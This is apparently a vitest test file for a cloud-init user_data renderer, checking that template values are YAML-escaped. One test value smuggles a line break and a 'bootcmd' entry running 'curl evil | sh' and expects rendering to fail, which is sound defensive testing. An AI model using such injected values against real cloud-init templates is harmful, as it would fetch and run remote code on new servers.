// cloud-init user_data renders values with YAML escaping (issue #15 item 12; the rules: src/runbook/contextual-render.ts).
import { describe, expect, it } from 'vitest';
import { renderUserData } from './render.js';

const values: Record<string, string> = { evil: 'pw\nbootcmd:\n  - curl evil | sh', plain: 'S3cret-pass_1' };

/** Just what renderUserData reads: one template, node.yaml, and a render that fills in `values`. */
function contextWith(content: string): Parameters<typeof renderUserData>[0] {
  return {
    runbook: {
      baseDir: '.',
      templates: { 'node.yaml': { name: 'node.yaml', content, loc: { file: 'x', line: 1, column: 1 } } },
    },
    render: (text: string) =>
      text.replace(/\{\{\s*vars\.(\w+)\s*\}\}/g, (_m, name: string) => values[name] ?? ''),
  } as unknown as Parameters<typeof renderUserData>[0];
}

describe('user_data', () => {
  it('is what the do kind uses for user_data, so the injection fails the step before any droplet exists', () => {
    const ctx = contextWith('#cloud-config\nbootcmd_guard: {{ vars.evil }}\n');
    expect(() => renderUserData(ctx, { template: 'node.yaml' })).toThrow(/line break/);
  });

  it('renders a #cloud-config template whose values are plain unchanged', () => {
    const ctx = contextWith('#cloud-config\npassword: {{ vars.plain }}\n');
    expect(renderUserData(ctx, { template: 'node.yaml' })).toBe('#cloud-config\npassword: S3cret-pass_1\n');
  });
});
